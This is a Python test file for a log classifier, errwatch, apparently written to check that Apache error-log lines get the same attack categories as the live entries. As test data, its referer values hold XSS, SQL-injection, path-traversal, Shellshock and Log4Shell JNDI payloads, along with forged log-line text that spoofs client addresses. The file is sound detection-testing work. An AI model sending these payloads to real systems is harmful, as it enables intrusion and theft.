"""What is said of an entry live and what is said of its line in an error log later is the same.

Live is what the error_log hook saw, as `errwatch classify --input jsonl` takes it; the module calls the same engine with the same fields. The
line is what httpd writes of that entry (error_log_lines.py). The entries are those that a hook recorded of 1,448 probes, beside the repository
(skipped where that is missing), and those of this directory's own samples.

What a line cannot hold, and so no reader of logs can know, is asked for by name below: the request, the module where the format leaves it out,
and module and level of the lines that httpd writes before it has read its configuration.
"""
import errno
import functools
import json

import pytest

import check_samples as samples
import error_log_lines as lines

ERRWATCH = samples.program()
OBSERVED = samples.SHARED / "data" / "observed_entries.jsonl"
pytestmark = pytest.mark.skipif(ERRWATCH is None, reason="no errwatch: build it, or set ERRWATCH")

VERDICT = ("category", "also", "rule", "cost", "rules", "ah", "client", "error")
# The compressed form with a gap, the whole one, and one that a port makes look like eight groups.
ADDRESSES = ("198.51.100.7", "2001:db8::7", "2001:db8:1:2:3:4:5:6", "2001:db8:1:2:3::7")


@functools.cache
def observed_entries():
    """The recorded entries, with the request's fields where there was one."""
    entries = []
    for text in OBSERVED.read_text().splitlines():
        row = json.loads(text)
        if row["type"] != "entry":
            continue
        entry = {key: row[key] for key in ("level", "module", "ah", "message", "vhost", "apr_status", "src_file", "src_line", "startup")}
        entry["client"] = row.get("useragent_ip") or row.get("client_ip")
        entry["referer"] = row.get("referer")
        # No scoreboard handle: a stream of HTTP/2, or a connection to a backend.
        entry["remote"] = row["has_c"] and not row["c_has_scoreboard"]
        entry["request"] = request_of(row) if row["has_r"] else None
        entry["probe"] = row["probe"]
        entries.append(entry)
    return entries


def request_of(row):
    """What the module takes of the request: the target as sent, from the request line where httpd had not taken that apart yet."""
    target = row.get("unparsed_uri")
    if not target and row.get("the_request"):
        target = " ".join(row["the_request"].split(" ")[1:-1])
    headers = {"User-Agent": row.get("user_agent"), "Referer": row.get("referer"), "Host": row.get("hostname")}
    return {"uri": target, "method": row.get("method"), "headers": {name: value for name, value in headers.items() if value}}


def sample_entries():
    """The messages of the rules' samples, each from a client with one of ADDRESSES."""
    entries = [sample["entry"] for sample in samples.read_samples() if "message" in sample["entry"]]
    return [{"module": "", "level": "error", **entry, "client": ADDRESSES[i % len(ADDRESSES)], "probe": "sample", "request": None,
             "apr_status": getattr(errno, entry.get("errno", ""), 0)}
            for i, entry in enumerate(entries)]


OBSERVED_THERE = pytest.mark.skipif(not OBSERVED.exists(), reason=f"no {OBSERVED.name} beside the repository")
SOURCES = [pytest.param(observed_entries, marks=OBSERVED_THERE, id="observed"), pytest.param(sample_entries, id="samples")]


def live(entry, without=()):
    """The entry as the hook saw it, without the request."""
    fields = {key: entry[key] for key in ("level", "module", "ah", "message", "client", "vhost") if entry.get(key) and key not in without}
    if entry.get("apr_status"):
        fields["errno"] = entry["apr_status"]
    if entry.get("referer"):
        fields["headers"] = {"Referer": entry["referer"]}
    return json.dumps(fields)


def with_request(entry):
    fields = json.loads(live(entry))
    fields.update({key: value for key, value in entry["request"].items() if value})
    return json.dumps(fields)


def differences(entries, read, expected):
    return [f"{entry['probe']}: {entry['message'][:200]!r}: line {got}, live {want}"
            for entry, got, want in zip(entries, read, expected) if [got.get(k) for k in VERDICT] != [want.get(k) for k in VERDICT]]


@pytest.mark.parametrize("form", lines.FORMATS, ids=lambda form: form.__name__)
@pytest.mark.parametrize("source", SOURCES)
def test_a_line_gets_what_the_entry_got(source, form):
    """Category, the others, rule, cost, every rule that matched, number and client: all the same."""
    entries = [entry for entry in source() if not entry.get("startup")]
    assert len(entries) > 500
    lost = ("module",) if form in lines.WITHOUT_MODULE else ()
    read = samples.classify(ERRWATCH, "log", [form(entry) for entry in entries])
    expected = samples.classify(ERRWATCH, "jsonl", [live(entry, lost) for entry in entries])
    assert differences(entries, read, expected) == []
    assert all("time" in result for result in read)


def test_lines_of_the_start():
    """They have no prefix, so neither module nor level: what a rule asks of these it cannot see."""
    messages = (
        ("AH00526: Syntax error on line 1 of /etc/httpd.conf:", 0), ("AH00112: Warning: DocumentRoot [/srv/x] does not exist", 0),
        ("AH00072: make_sock: could not bind to address [::]:80", 98), ("AH00015: Unable to open logs", 13),
        ("AH00558: httpd: Could not reliably determine the server's fully qualified domain name", 0), ("no listening sockets available", 0))
    entries = [{"message": message, "ah": message[:7] if message.startswith("AH") else "", "apr_status": status, "level": "crit",
                "module": "core", "startup": 1, "probe": "start"} for message, status in messages]
    read = samples.classify(ERRWATCH, "log", [lines.threaded(entry) for entry in entries])
    expected = samples.classify(ERRWATCH, "jsonl", [live(entry, ("module", "level")) for entry in entries])
    assert differences(entries, read, expected) == []


@OBSERVED_THERE
def test_the_request_can_only_add():
    """Live the rules see the request too, which no line holds: payload in a query, in a header, in a path that httpd had decoded. So every rule
    that matches the line must match live, no category may get lost, and the entry must not cost less."""
    entries = [entry for entry in observed_entries() if entry["request"]]
    assert len(entries) > 1000
    alone = samples.classify(ERRWATCH, "jsonl", [live(entry) for entry in entries])
    whole = samples.classify(ERRWATCH, "jsonl", [with_request(entry) for entry in entries])
    wrong, more = [], 0
    for entry, less, full in zip(entries, alone, whole):
        named = {less["category"], *less["also"]} - {"benign"}
        listed = len(full["rules"]) == samples.LISTED_RULES or set(less["rules"]) <= set(full["rules"])
        if not (listed and named <= {full["category"], *full["also"]} and less["cost"] <= full["cost"]):
            wrong.append(f"{entry['probe']}: {with_request(entry)}: line {less}, live {full}")
        more += set(full["rules"]) != set(less["rules"])
    assert wrong == []
    assert more > 100  # else nothing was compared


# What a client can put into a path so that a line looks like another.
FORGED = (
    "/x [client 203.0.113.99:80] AH01617: user a: authentication failure",
    "/[core:error] [pid 1] [client 203.0.113.99:80] x",
    r"/x\n[Sun Nov 22 10:00:00 2026] [core:error] [pid 1] [client 203.0.113.99:80] AH01617: user",
    "/(2)No such file or directory: [client 203.0.113.99:80] x",
    "/mod_ssl.c(7): x", "/ ", "/x, referer", "/x, referer:", "/x [", "/]", '/" [unique_id "a"]', "/<179>1 2026-11-22T10:00:00Z web",
)
NUMBERED = {"level": "info", "module": "core", "ah": "AH00128", "client": "198.51.100.7", "probe": "forged"}


@pytest.mark.parametrize("form", lines.FORMATS, ids=lambda form: form.__name__)
def test_forged_text_changes_no_line(form):
    entries = [{**NUMBERED, "message": f"AH00128: File does not exist: /srv/www/html{path}", "referer": referer}
               for path in (*FORGED, "/x, referer: http://203.0.113.99/") for referer in (None, "http://www.example.org/a, b")]
    # Without a referer of its own the last of them is told from a true one by nobody: see below.
    entries = [entry for entry in entries if entry["referer"] or ", referer: " not in entry["message"]]
    lost = ("module",) if form in lines.WITHOUT_MODULE else ()
    read = samples.classify(ERRWATCH, "log", [form(entry) for entry in entries])
    expected = samples.classify(ERRWATCH, "jsonl", [live(entry, lost) for entry in entries])
    assert differences(entries, read, expected) == []
    assert {result["client"] for result in read} == {"198.51.100.7"}


def test_a_forged_referer_hides_nothing():
    """The one text that makes a line ambiguous: httpd appends the referer without quotes. The path ends early then, and what follows is looked
    at as a referer: number, rule and client stay, and what is in front of it still counts."""
    paths = ("/x, referer: /../../etc/passwd", "/../../etc/passwd, referer: http://www.example.org/", "/x, referer: <script>alert(1)</script>")
    entries = [{**NUMBERED, "message": f"AH00128: File does not exist: /srv/www/html{path}"} for path in paths]
    read = samples.classify(ERRWATCH, "log", [lines.threaded(entry) for entry in entries])
    assert all(result["ah"] == "AH00128" and 2001 in result["rules"] and result["client"] == "198.51.100.7" for result in read)
    assert read[1]["category"] == samples.classify(ERRWATCH, "jsonl", [live(entries[1])])[0]["category"] == "path_traversal"


def escaped(text):
    """As ap_escape_errorlog_item writes it."""
    short = {"\b": r"\b", "\n": r"\n", "\r": r"\r", "\t": r"\t", "\v": r"\v", "\\": "\\\\"}
    return "".join(short.get(c) or (c if " " <= c <= "~" else "".join(f"\\x{byte:02x}" for byte in c.encode())) for c in text)


@pytest.mark.parametrize("referer", [
    "http://www.example.org/?q=<script>alert(document.cookie)</script>",
    "1' UNION SELECT user,password FROM users-- -", "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "() { :;}; /bin/bash -c id",
    "${jndi:ldap://198.51.100.9/a}", "http://www.example.org/caf\u00e9", "a\tb", '"><img src=x onerror=alert(1)>',
])
def test_a_referer_is_read_as_it_was_sent(referer):
    """Live it is the header itself, in the line it is escaped."""
    entry = {**NUMBERED, "message": "AH00128: File does not exist: /srv/www/html/x", "referer": referer}
    read = samples.classify(ERRWATCH, "log", [lines.threaded({**entry, "referer": escaped(referer)})])
    assert differences([entry], read, samples.classify(ERRWATCH, "jsonl", [live(entry)])) == []


def test_backends_are_nobody():
    """httpd writes [remote ...] for a client that speaks HTTP/2 and for a backend: the backend's port tells."""
    entry = {**NUMBERED, "module": "ssl", "ah": "AH02039", "message": "AH02039: Certificate Verification: Error (18)", "remote": True}
    stream, backend = samples.classify(ERRWATCH, "log", [lines.threaded(entry), lines.threaded(entry).replace(f":{lines.PORT}]", ":8443]")])
    assert stream["client"] == "198.51.100.7" and "client" not in backend
    assert (stream["category"], stream["rule"]) == (backend["category"], backend["rule"])
